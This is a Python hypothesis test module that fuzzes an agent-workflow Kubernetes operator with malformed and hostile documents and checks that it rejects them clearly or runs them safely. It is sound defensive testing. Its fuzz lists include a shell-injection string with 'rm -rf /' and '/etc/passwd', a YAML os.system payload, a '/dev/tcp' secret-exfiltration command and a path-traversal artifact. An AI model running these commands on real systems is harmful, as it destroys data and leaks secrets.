"""Hostile documents and agent reports: every one is judged, none breaks anything.

Generated Workflows and AgentFallbackPolicies, valid and broken (unknown fields, wrong types,
huge and unicode strings, dependency cycles, unknown references, bad CEL, bad template
syntax), go through every gate a real document passes:

- the CRD's ``openAPIV3Schema`` with its CEL rules (the API server's verdict, as in
  ``test_examples_schema``);
- the pydantic models, both as the operator reads an object (lax) and as the API server would
  type-check it (strict JSON);
- the core: ``validate_workflow`` / ``validate_policy``, then ``plan`` driven to the end with
  simulated Jobs whose termination messages are themselves hostile.

Each document is either accepted and its Workflow reaches a terminal phase, or rejected with
messages that are non-empty and name a field.  Nothing raises except the models'
``ValidationError``.  Every Job the plan asks for is built by ``build_step_job`` and checked:
the prompt travels as data, the agent's template decides image, command and env names.
"""

from __future__ import annotations

import json
import random
import re
import string
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from agentflow.api.models import (
    DEFAULT_AGENT_IMAGE,
    MAX_PROMPT_LENGTH,
    TERMINAL_WORKFLOW_PHASES,
    AgentFallbackPolicy,
    Workflow,
    WorkflowPhase,
)
from agentflow.children import RESERVED_ENV_PREFIX, WorkflowRef, build_step_job
from agentflow.controller import resolve_fallback_policy
from agentflow.engine import resolve_policy, validate_policy, validate_workflow
from agentflow.engine.types import CreateJob, FallbackPolicy, JobState
from agentflow.localcluster.images import expand_references
from agentflow.report import TERMINATION_MESSAGE_LIMIT, decode_termination_message

from .engine.world import World
from .test_examples_schema import SCHEMAS, crd_errors

MAX_PASSES = 2_000
HEALTH = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much]


# --------------------------------------------------------------------------------------------
# What a "clear message" is
# --------------------------------------------------------------------------------------------


def _property_names(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        for name, child in (node.get("properties") or {}).items():
            yield name
            yield from _property_names(child)
        for key in ("items", "additionalProperties"):
            yield from _property_names(node.get(key))


FIELD_NAMES = frozenset(
    name for schema in SCHEMAS.values() for name in _property_names(schema.schema)
)
_FIELD = re.compile(r"[A-Za-z]+")


def names_a_field(message: str) -> bool:
    """True when the message mentions a field of the API (a path such as ``spec.steps[2]``)."""
    return bool(FIELD_NAMES.intersection(_FIELD.findall(message)))


def assert_clear(messages: list[str], where: str) -> None:
    assert messages, f"{where}: rejected without a message"
    for message in messages:
        assert message.strip(), f"{where}: an empty message"
        assert names_a_field(message), f"{where}: {message[:300]!r} names no field"


def model_errors(error: ValidationError) -> list[str]:
    """The models' complaints as the operator reports them: ``spec.steps.0.name: ...``."""
    return [f"{'.'.join(map(str, e['loc']))}: {e['msg']}" for e in error.errors()]


# --------------------------------------------------------------------------------------------
# Generated documents
# --------------------------------------------------------------------------------------------

AGENT_NAMES = ["coder", "reviewer", "tester"]
JSON_LEAVES = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)
HOSTILE_TEXT = st.sampled_from(
    [
        "ステップ",
        "a\u200bb",
        "\u202eevil",
        "😀",
        "x" * 64,
        "A",
        "-a",
        "a_b",
        "",
        "\x00",
        "a\nb",
        "a.b",
        "${HOME}",
        "$(AGENTFLOW_STEP)",
    ]
)
TEMPLATE_PIECES = [
    "{{ steps.s0.summary }}",
    "{{steps.s1.status}}",
    "{{ steps.s0.metrics.toolCalls }}",
    "{{ steps.s2.artifacts }}",
    "{{ steps.s0.phase }}",
    "{{ workflow.name }}",
    "{{ workflow.namespace }}",
    "{{ step.name }}",
    "{{ step.iteration }}",
    "{{ steps.ghost.summary }}",
    "{{ steps.s0 }}",
    "{{ steps. }}",
    "{{ env.HOME }}",
    "{{ steps.s0.summary | upper }}",
    "{{",
    "}}",
    "\\{{ literal }}",
    "{{ {{ steps.s0.summary }} }}",
    "$(AGENTFLOW_NAMESPACE)",
    "`rm -rf /`; $(cat /etc/passwd) && echo pwned | sh",
    "key: !!python/object/apply:os.system ['id']",
    "has(steps.s0.summary) && true",
    "ünïcödé ✓ 中文 \u202e",
    "plain words",
]
CEL_EXPRESSIONS = [
    "true",
    "false",
    'steps.s0.phase == "Succeeded"',
    'steps.s0.summary.contains("{{")',
    'workflow.name != ""',
    "size(steps) >= 0",
    "has(steps.s0.metrics.errors)",
    "result.iteration >= 2",
    'steps["s1"].phase != "Skipped"',
    "[1, 2, 3].all(x, x > 0)",
    "result.(",
    "1 +",
    "steps.",
    "unknown_var == 1",
    '"a" == 1',
    "1 / 0 == 1",
    "steps.ghost.phase == 'x'",
    "steps.s3.phase == 'Succeeded'",
    "[1, 2].map(x, x)",
    "steps.my-step.phase == 'x'",
    "{{ steps.s0.summary }}",
    "(" * 300 + "true" + ")" * 300,
    "!" * 1000 + "true",
    # String literals in forms a text scan misreads, hiding macros nested three deep.
    "'''it's''' != '' && [1].all(a, [1].all(b, [1].all(c, true)))",
    'r"\\" != "" && [1].all(a, [1].all(b, [1].all(c, true)))',
    'true // "\n && [1].all(a, [1].all(b, [1].all(c, true)))',
    '"\\q" == ""',
    'steps.s0.summary.matches("(")',
]


@st.composite
def prompts(draw: st.DrawFn) -> str:
    pieces = draw(st.lists(st.sampled_from(TEMPLATE_PIECES) | st.text(max_size=30), max_size=6))
    return " ".join(pieces)


@st.composite
def agents(draw: st.DrawFn, name: str) -> dict[str, Any]:
    agent: dict[str, Any] = {"name": name}
    if draw(st.booleans()):
        agent["provider"] = draw(st.sampled_from(["script", "command", "anthropic", "openai"]))
    if draw(st.integers(0, 3)) == 0:
        agent["image"] = draw(st.sampled_from(["python:3.12", "busybox", "evil.example/x:1"]))
        agent["command"] = draw(
            st.lists(st.sampled_from(["sh", "-c", "echo $(SECRET) > /dev/tcp/x", "python3"]))
        )
    env: list[dict[str, Any]] = []
    for i in range(draw(st.integers(0, 3))):
        var_name = draw(st.sampled_from([f"VAR{i}", "AGENTFLOW_PROMPT", "PATH", "API_KEY"]))
        if draw(st.booleans()):
            env.append({"name": var_name, "value": draw(st.text(max_size=20))})
        else:
            ref = {"name": f"{name}-secret", "key": "token"}
            env.append({"name": var_name, "valueFrom": {"secretKeyRef": ref}})
    if env:
        # Names must be unique for the Pod API; the models leave that to the API server.
        agent["env"] = list({v["name"]: v for v in env}.values())
    return agent


SAFE_CEL = ["true", "false", 'workflow.name != ""', "size(steps) >= 0"]


def safe_prompt(upstream: list[str]) -> st.SearchStrategy[str]:
    """Prompts whose references all resolve: text, workflow/step fields, upstream results."""
    pieces = ["{{ workflow.name }}", "{{ step.name }}", "\\{{ not a reference }}"]
    pieces += [f"{{{{ steps.{u}.summary }}}} {{{{ steps.{u}.phase }}}}" for u in upstream]
    return st.lists(st.sampled_from(pieces) | st.text(max_size=30), max_size=4).map(" ".join)


@st.composite
def workflow_specs(draw: st.DrawFn, hostile: bool | None = None) -> dict[str, Any]:
    """A Workflow spec; with ``hostile`` its prompts and CEL are drawn from the hostile lists."""
    if hostile is None:
        hostile = draw(st.booleans())
    agent_names = AGENT_NAMES[: draw(st.integers(1, 3))]
    count = draw(st.integers(1, 6))
    names = [f"s{i}" for i in range(count)]
    cel = CEL_EXPRESSIONS if hostile else SAFE_CEL
    strategy = draw(st.sampled_from(["Sequential", "Parallel", "DAG"]))
    steps: list[dict[str, Any]] = []
    for i, name in enumerate(names):
        step: dict[str, Any] = {"name": name, "agent": draw(st.sampled_from(agent_names))}
        deps: list[str] = []
        if i and draw(st.booleans()):
            deps = draw(st.lists(st.sampled_from(names[:i]), unique=True, max_size=3))
            step["dependsOn"] = deps
        if draw(st.booleans()):
            upstream = names[:i] if strategy == "Sequential" else deps
            step["prompt"] = draw(prompts() if hostile else safe_prompt(upstream))
        if draw(st.integers(0, 3)) == 0:
            step["when"] = draw(st.sampled_from(cel))
        if draw(st.integers(0, 4)) == 0:
            step["repeat"] = {
                "until": draw(st.sampled_from(cel)),
                "maxIterations": draw(st.integers(1, 3)),
            }
        if draw(st.integers(0, 3)) == 0:
            step["retries"] = {"limit": draw(st.integers(0, 2)), "backoffSeconds": 1}
        if draw(st.integers(0, 4)) == 0:
            step["timeoutSeconds"] = draw(st.integers(1, 100))
        steps.append(step)
    spec: dict[str, Any] = {
        "steps": steps,
        "agents": [draw(agents(a)) for a in agent_names],
        "strategy": strategy,
    }
    if draw(st.booleans()):
        spec["parallelism"] = draw(st.integers(1, 3))
    if draw(st.integers(0, 5)) == 0:
        spec["activeDeadlineSeconds"] = draw(st.integers(1, 600))
    return spec


def _containers(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every dict and list inside ``node``, with its path, the node itself first."""
    if isinstance(node, dict | list):
        yield path, node
        children = node.items() if isinstance(node, dict) else enumerate(node)
        for key, child in children:
            yield from _containers(child, (*path, key))


def _leaves(node: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every scalar inside ``node``."""
    found: list[tuple[Any, Any]] = []
    for _, container in _containers(node):
        children = container.items() if isinstance(container, dict) else enumerate(container)
        for key, child in children:
            if not isinstance(child, dict | list):
                found.append((container, key))
    return found


@st.composite
def mutations(draw: st.DrawFn, spec: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """One hostile change to a spec, and its kind (for hypothesis' statistics)."""
    spec = json.loads(json.dumps(spec))
    steps = spec["steps"]
    kind = draw(
        st.sampled_from(
            [
                "none",
                "unknown-field",
                "wrong-type",
                "huge-string",
                "hostile-text",
                "cycle",
                "unknown-reference",
                "self-dependency",
                "duplicate-name",
                "missing-field",
                "too-many",
            ]
        )
    )
    if kind == "unknown-field":
        containers = [c for _, c in _containers(spec) if isinstance(c, dict)]
        target = draw(st.sampled_from(containers))
        target[draw(st.sampled_from(["podSpecPatch", "hostNetwork", "securityContext", "x"]))] = (
            draw(JSON_VALUES)
        )
    elif kind == "wrong-type":
        container, key = draw(st.sampled_from(_leaves(spec)))
        container[key] = draw(JSON_VALUES)
    elif kind == "huge-string":
        container, key = draw(st.sampled_from(_leaves(spec)))
        container[key] = draw(st.sampled_from(["x", "{{", "é"])) * draw(
            st.sampled_from([MAX_PROMPT_LENGTH + 1, 70_000])
        )
    elif kind == "hostile-text":
        container, key = draw(st.sampled_from(_leaves(spec)))
        container[key] = draw(HOSTILE_TEXT)
    elif kind == "cycle":
        spec["strategy"] = "DAG"
        first, last = steps[0], steps[-1]
        first["dependsOn"] = [*first.get("dependsOn", []), last["name"]]
        if first is not last:
            last["dependsOn"] = list(dict.fromkeys([*last.get("dependsOn", []), first["name"]]))
    elif kind == "unknown-reference":
        step = draw(st.sampled_from(steps))
        where = draw(st.sampled_from(["agent", "dependsOn", "prompt", "when"]))
        if where == "agent":
            step["agent"] = "ghost"
        elif where == "dependsOn":
            step["dependsOn"] = [*step.get("dependsOn", []), "ghost"]
        elif where == "prompt":
            step["prompt"] = "use {{ steps.ghost.summary }}"
        else:
            step["when"] = 'steps.ghost.phase == "Succeeded"'
    elif kind == "self-dependency":
        step = draw(st.sampled_from(steps))
        step["dependsOn"] = [*step.get("dependsOn", []), step["name"]]
    elif kind == "duplicate-name":
        what = draw(st.sampled_from(["steps", "agents"]))
        spec[what].append(dict(spec[what][0]))
    elif kind == "missing-field":
        containers = [c for _, c in _containers(spec) if isinstance(c, dict) and c]
        target = draw(st.sampled_from(containers))
        del target[draw(st.sampled_from(sorted(target)))]
    elif kind == "too-many":
        spec["steps"] = [{"name": f"n{i}", "agent": AGENT_NAMES[0]} for i in range(257)]
    return kind, spec


def workflow_document(spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "agentflow.dev/v1alpha1",
        "kind": "Workflow",
        "metadata": {"name": "hostile", "namespace": "team", "uid": "u-1", "generation": 1},
        "spec": spec,
    }


@st.composite
def policy_specs(draw: st.DrawFn) -> dict[str, Any]:
    rules: list[dict[str, Any]] = []
    for agent in draw(st.lists(st.sampled_from(AGENT_NAMES), unique=True, max_size=3)):
        rule: dict[str, Any] = {"agent": agent}
        if draw(st.booleans()):
            rule["fallback"] = draw(st.sampled_from([*AGENT_NAMES, "ghost"]))
        if draw(st.booleans()):
            rule["criticality"] = draw(st.sampled_from(["critical", "high", "medium", "low"]))
        if draw(st.booleans()):
            rule["skipIfUnavailable"] = draw(st.booleans())
        if draw(st.booleans()):
            rule["maxAttempts"] = draw(st.integers(1, 3))
        rules.append(rule)
    spec: dict[str, Any] = {"rules": rules}
    if draw(st.booleans()):
        spec["default"] = {
            "criticality": draw(st.sampled_from(["critical", "low"])),
            "skipIfUnavailable": draw(st.booleans()),
        }
    return spec


# --------------------------------------------------------------------------------------------
# Hostile termination messages
# --------------------------------------------------------------------------------------------

TERMINATION_MESSAGES = st.one_of(
    st.none(),
    st.just(""),
    st.text(max_size=300),
    st.binary(max_size=300).map(lambda b: b.decode("utf-8", "replace")),
    st.sampled_from(
        [
            "## Summary\nnext: {{ steps.s0.summary }} {{ workflow.name }}\n## Status\nsuccess\n",
            '{"v":1,"truncated":false,"size":99999999,"summary":"liar"}',
            '{"v":1,"truncated":false,"size":-5,"summary":"negative"}',
            '{"v":1,"truncated":"no","size":"big","summary":7,"artifacts":"x","metrics":[]}',
            '{"v":2,"summary":"from the future"}',
            '{"v":1,"summary":"' + "s" * 5000 + '"}',
            '{"v":1,"metrics":{"toolCalls":1e308,"extra":{"x":"NaN"}}}',
            '{"v":1,"artifacts":[{"path":"../../etc/passwd","action":"created"}]}',
            "[" * 100_000,
            '{"v":' + "[" * 5_000,
            "## Summary\n" + "\x00\x1b[31m" * 100,
            "## Metrics\n- Tool calls: 99999999999999999999999999\n- Errors: -3\n",
            "x" * (TERMINATION_MESSAGE_LIMIT + 1),
            "line\n" * 200,
        ]
    ),
)


# --------------------------------------------------------------------------------------------
# Driving the core to the end
# --------------------------------------------------------------------------------------------


def check_job(action: CreateJob, wf: Workflow) -> None:
    """The Job for ``action`` is exactly what the agent template says, the prompt is data."""
    ref = WorkflowRef(name=wf.metadata.name, namespace="team", uid="u-1")
    manifest = build_step_job(ref, action)
    pod = manifest["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    agent = action.agent
    assert container["image"] == (agent.image or DEFAULT_AGENT_IMAGE)
    assert container.get("command") == (agent.command or None)
    assert container.get("args") == (agent.args or None)
    env = {e["name"]: e for e in container["env"]}
    assert len(env) == len(container["env"]), "duplicate env names"
    # The rendered prompt is one literal value that no agent env entry can shadow.
    # (every `$` doubled, so the kubelet's $(VAR) expansion gives the prompt back unchanged)
    assert env["AGENTFLOW_PROMPT"] == {
        "name": "AGENTFLOW_PROMPT",
        "value": action.prompt.replace("$", "$$"),
    }
    # Secrets: exactly the references this agent declares, nothing from other agents.
    declared = {
        (v.name, v.value_from.secret_key_ref.name, v.value_from.secret_key_ref.key)
        for v in agent.env
        if v.value_from is not None and not v.name.startswith(RESERVED_ENV_PREFIX)
    }
    referenced = {
        (e["name"], e["valueFrom"]["secretKeyRef"]["name"], e["valueFrom"]["secretKeyRef"]["key"])
        for e in container["env"]
        if "valueFrom" in e
    }
    assert referenced <= declared
    assert pod["automountServiceAccountToken"] is False
    assert container["securityContext"]["allowPrivilegeEscalation"] is False
    assert set(pod) <= {
        "restartPolicy",
        "automountServiceAccountToken",
        "enableServiceLinks",
        "securityContext",
        "containers",
        "volumes",
        "serviceAccountName",
    }


@dataclass
class Outcome:
    phase: WorkflowPhase
    message: str
    jobs: int
    status_bytes: int


def run_to_the_end(
    wf: Workflow, policy: FallbackPolicy, seed: int, messages: list[str | None]
) -> Outcome:
    rng = random.Random(seed)
    w = World(wf, policy=policy)
    for _ in range(MAX_PASSES):
        p = w.plan()
        for action in p.actions:
            if isinstance(action, CreateJob):
                check_job(action, wf)
        status = p.status
        if status.phase in TERMINAL_WORKFLOW_PHASES:
            assert w.active() == [], "a finished Workflow left Jobs running"
            assert status.message, "a finished Workflow says nothing"
            wire = json.dumps(status.model_dump(mode="json", by_alias=True, exclude_none=True))
            return Outcome(status.phase, status.message, len(w.created), len(wire.encode()))
        finished = False
        for job in w.active():
            if rng.random() < 0.6:
                finished = True
                ok = rng.random() < 0.85
                w.jobs[job.name] = replace(
                    job,
                    state=JobState.SUCCEEDED if ok else JobState.FAILED,
                    finished_at=w.now,
                    exit_code=0 if ok else rng.choice([1, 2, 137, 255]),
                    reason=None if ok else rng.choice([None, "Error", "DeadlineExceeded"]),
                    termination_message=rng.choice(messages),
                )
        if finished or w.active():
            w.tick(1)
        elif p.requeue_after is not None:
            w.tick(p.requeue_after)
        else:
            raise AssertionError(f"stuck: nothing runs and nothing is due: {status}")
    raise AssertionError(f"not finished after {MAX_PASSES} passes: {w.phases()}")


@dataclass
class Verdict:
    crd: list[str]
    strict: list[str]  # the models, typed as the API server types JSON
    lax: list[str]  # the models as the operator reads an object
    core: list[str]
    workflow: Workflow | None


def judge_workflow(doc: dict[str, Any]) -> Verdict:
    crd = crd_errors(doc)
    try:
        Workflow.model_validate_json(json.dumps(doc), strict=True)
        strict: list[str] = []
    except ValidationError as error:
        strict = model_errors(error)
    try:
        wf = Workflow.model_validate(doc)
    except ValidationError as error:
        return Verdict(crd, strict, model_errors(error), [], None)
    return Verdict(crd, strict, [], validate_workflow(wf.spec), wf)


# --------------------------------------------------------------------------------------------
# Properties
# --------------------------------------------------------------------------------------------


@settings(max_examples=250, deadline=None, suppress_health_check=HEALTH)
@given(
    data=st.data(),
    spec=workflow_specs(),
    seed=st.integers(0, 2**32 - 1),
    messages=st.lists(TERMINATION_MESSAGES, min_size=1, max_size=4),
)
def test_every_workflow_is_either_rejected_clearly_or_runs_to_a_terminal_phase(
    data: st.DataObject, spec: dict[str, Any], seed: int, messages: list[str | None]
) -> None:
    kind, mutated = data.draw(mutations(spec))
    doc = workflow_document(mutated)
    verdict = judge_workflow(doc)
    event(f"mutation {kind}")

    if kind == "unknown-field":
        # No pod field (or any other) can be smuggled in: both the CRD and the models say no.
        assert verdict.crd and verdict.strict and verdict.lax, verdict
    if verdict.crd:
        assert_clear(verdict.crd, "CRD")
        # Whatever the API server rejects, the operator's models or core reject too.
        assert verdict.strict or verdict.core, f"only the CRD rejects: {verdict.crd}"
    if verdict.strict:
        assert_clear(verdict.strict, "models")
    if verdict.workflow is None:
        event("rejected by the models")
        assert_clear(verdict.lax, "models (lax)")
        return
    if verdict.core:
        assert_clear(verdict.core, "core")
        assert all(p.startswith("spec.") for p in verdict.core), verdict.core
    if verdict.crd:
        return  # the API server never stores it: nothing for the operator to run
    outcome = run_to_the_end(verdict.workflow, FallbackPolicy(), seed, messages)
    event(f"{'invalid' if verdict.core else 'valid'}: {outcome.phase}")
    if verdict.core:
        assert outcome.phase is WorkflowPhase.FAILED
        assert outcome.jobs == 0
        assert verdict.core[0] in outcome.message
    # A Workflow's status stays small whatever its agents report (the etcd limit is 1.5 MiB).
    assert outcome.status_bytes < 12 * 1024 * len(verdict.workflow.spec.steps) + 8 * 1024


@settings(max_examples=120, deadline=None, suppress_health_check=HEALTH)
@given(
    data=st.data(),
    spec=workflow_specs(hostile=False),
    policy=policy_specs(),
    seed=st.integers(0, 2**32 - 1),
    messages=st.lists(TERMINATION_MESSAGES, min_size=1, max_size=3),
)
def test_every_fallback_policy_is_either_rejected_clearly_or_applied(
    data: st.DataObject,
    spec: dict[str, Any],
    policy: dict[str, Any],
    seed: int,
    messages: list[str | None],
) -> None:
    verdict = judge_workflow(workflow_document(spec))
    assume(verdict.workflow is not None and not verdict.core and not verdict.crd)
    assert verdict.workflow is not None
    kind, mutated = data.draw(policy_mutations(policy))
    event(f"mutation {kind}")
    doc = {
        "apiVersion": "agentflow.dev/v1alpha1",
        "kind": "AgentFallbackPolicy",
        "metadata": {"name": "hostile"},
        "spec": mutated,
    }
    crd = crd_errors(doc)
    if kind == "unknown-field":
        assert crd, "the CRD accepted an unknown field"
    try:
        parsed = AgentFallbackPolicy.model_validate(doc)
    except ValidationError as error:
        assert_clear(model_errors(error), "policy models")
    else:
        assert kind != "unknown-field", "the models accepted an unknown field"
        problems = validate_policy(parsed.spec)
        if problems:
            assert_clear(problems, "policy core")
        if crd:
            assert_clear(crd, "policy CRD")
            assert problems, f"only the CRD rejects the policy: {crd}"
        assert (resolve_policy(parsed.spec, "hostile").error is None) == (not problems)
    # The operator resolves the policy from what its index holds, whatever that is.
    resolved = resolve_fallback_policy("hostile", {"hostile": mutated})
    outcome = run_to_the_end(verdict.workflow, resolved, seed, messages)
    event(f"policy {'invalid' if resolved.error else 'valid'}: {outcome.phase}")
    if resolved.error:
        assert outcome.phase is WorkflowPhase.FAILED and outcome.jobs == 0
        assert "hostile" in outcome.message


@st.composite
def policy_mutations(draw: st.DrawFn, spec: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    spec = json.loads(json.dumps(spec))
    kind = draw(
        st.sampled_from(["none", "loop", "self", "critical-skip", "wrong-type", "unknown-field"])
    )
    rules = spec["rules"]
    if kind == "loop":
        spec["rules"] = [
            {"agent": "coder", "fallback": "reviewer"},
            {"agent": "reviewer", "fallback": "tester"},
            {"agent": "tester", "fallback": "coder"},
        ]
    elif kind == "self":
        spec["rules"] = [{"agent": "coder", "fallback": "coder"}]
    elif kind == "critical-skip":
        spec["default"] = {"criticality": "critical", "skipIfUnavailable": True}
    elif kind == "wrong-type" and _leaves(spec):
        container, key = draw(st.sampled_from(_leaves(spec)))
        container[key] = draw(JSON_VALUES)
    elif kind == "unknown-field":
        target = draw(st.sampled_from([spec, *rules]))
        target["podSpecPatch"] = draw(JSON_VALUES)
    return kind, spec


@settings(max_examples=300, deadline=None, suppress_health_check=HEALTH)
@given(TERMINATION_MESSAGES)
def test_a_termination_message_never_breaks_decoding_and_stays_bounded(
    message: str | None,
) -> None:
    result = decode_termination_message(message)
    wire = json.dumps(result.model_dump(mode="json", by_alias=True, exclude_none=True))
    assert len(wire.encode()) <= 12 * 1024
    if message is not None and len(message.encode("utf-8", "replace")) > TERMINATION_MESSAGE_LIMIT:
        assert result.truncated  # more than a termination message holds: read the log


# --------------------------------------------------------------------------------------------
# Specific hostile cases
# --------------------------------------------------------------------------------------------


def test_a_result_that_contains_template_syntax_is_inserted_literally() -> None:
    spec = {
        "agents": [{"name": "coder"}],
        "steps": [
            {"name": "s0", "agent": "coder", "prompt": "first"},
            {"name": "s1", "agent": "coder", "prompt": "got: {{ steps.s0.summary }}"},
        ],
    }
    wf = Workflow.model_validate(workflow_document(spec))
    w = World(wf)
    w.plan()
    hostile = "{{ steps.s1.summary }} {{ workflow.namespace }} \\{{ $(AGENTFLOW_STEP) `id`"
    w.succeed("s0", summary=hostile)
    p = w.plan()
    (create,) = [a for a in p.actions if isinstance(a, CreateJob)]
    assert create.prompt == f"got: {hostile}"
    check_job(create, wf)


def _kubelet_env(env: list[dict[str, Any]]) -> dict[str, str]:
    """What a container sees: literal values with ``$(VAR)`` expanded, in order."""
    seen: dict[str, str] = {}
    for entry in env:
        if "value" in entry:
            seen[entry["name"]] = expand_references(entry["value"], seen)
    return seen


def test_the_prompt_reaches_the_container_exactly_even_with_dollar_references() -> None:
    spec = {
        "agents": [{"name": "coder"}],
        "steps": [{"name": "s0", "agent": "coder", "prompt": "cost $(AGENTFLOW_STEP) $$ $x"}],
    }
    wf = Workflow.model_validate(workflow_document(spec))
    (create,) = [a for a in World(wf).plan().actions if isinstance(a, CreateJob)]
    manifest = build_step_job(WorkflowRef("hostile", "team", "u-1"), create)
    env = _kubelet_env(manifest["spec"]["template"]["spec"]["containers"][0]["env"])
    assert env["AGENTFLOW_PROMPT"] == "cost $(AGENTFLOW_STEP) $$ $x"


_PLAN_ONE = textwrap.dedent(
    """
    import json, sys
    from agentflow.api.models import Workflow
    from agentflow.engine import plan
    from agentflow.engine.types import FallbackPolicy
    from agentflow.engine.types import no_cache
    from datetime import UTC, datetime

    wf = Workflow.model_validate({
        "metadata": {"name": "slow", "namespace": "team"},
        "spec": {
            "agents": [{"name": "a"}],
            "steps": [{"name": "s", "agent": "a", "when": sys.argv[1]}],
        },
    })
    p = plan(wf, FallbackPolicy(), [], no_cache, datetime.now(UTC))
    ready = [c.message for c in p.status.conditions if c.type == "Ready"]
    print(json.dumps({"phase": str(p.status.phase), "ready": ready[0]}))
    """
)
_ITEMS = "[" + ",".join(str(i) for i in range(30)) + "]"
_NESTED = "".join(f"{_ITEMS}.all(v{d}, " for d in range(6)) + "true" + ")" * 6
# Compiling a regular expression near the library's size limit takes about 0.1 s, every time.
_REGEX = '!"x".matches("\\\\w{200}")'


@pytest.mark.parametrize(
    ("when", "verdict"),
    [
        (_NESTED, "nest more than 2 deep"),
        ("'''it's''' != '' && " + _NESTED, "nest more than 2 deep"),
        ('r"\\" != "" && ' + _NESTED, "nest more than 2 deep"),
        ('br"\\" != b"" && ' + _NESTED, "nest more than 2 deep"),
        ('true // "\n && ' + _NESTED, "nest more than 2 deep"),
        # Within the nesting bound, or with no macro at all: only the time budget stops these.
        (f"[0,1,2,3,4,5,6,7,8,9].all(a, [0,1,2,3,4,5,6,7,8,9].all(b, {_REGEX}))", "longer than"),
        (" && ".join([_REGEX] * 30), "longer than"),
    ],
    ids=["nested", "triple-quoted", "raw", "raw-bytes", "comment", "regex-x100", "regex-x30"],
)
def test_a_costly_when_expression_is_rejected_or_cut_short(when: str, verdict: str) -> None:
    try:
        done = subprocess.run(
            [sys.executable, "-c", _PLAN_ONE, when],
            timeout=5,
            check=True,
            capture_output=True,
            text=True,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("planning one Workflow with a costly `when` took over 5 s")
    outcome = json.loads(done.stdout)
    assert outcome["phase"] == "Failed", outcome
    assert "spec.steps[0].when: " in outcome["ready"], outcome
    assert verdict in outcome["ready"], outcome


@pytest.mark.parametrize(
    "name",
    ["ステップ", "a" * 41, "-lead", "UPPER", "a_b", "", "a\u200bb", "😀"],
)
def test_a_bad_step_name_is_rejected_by_both_the_crd_and_the_models(name: str) -> None:
    doc = workflow_document({"agents": [{"name": "c"}], "steps": [{"name": name, "agent": "c"}]})
    verdict = judge_workflow(doc)
    assert_clear(verdict.crd, "CRD")
    assert any("spec.steps.0.name" in m for m in verdict.crd), verdict.crd
    assert verdict.workflow is None
    assert any(m.startswith("spec.steps.0.name") for m in verdict.lax), verdict.lax


def test_names_a_field_is_not_trivially_true() -> None:
    assert not names_a_field("something went wrong")
    assert not names_a_field("")
    assert names_a_field("spec.steps[0].when: invalid CEL")
    assert all(c in string.ascii_letters for c in "".join(FIELD_NAMES))
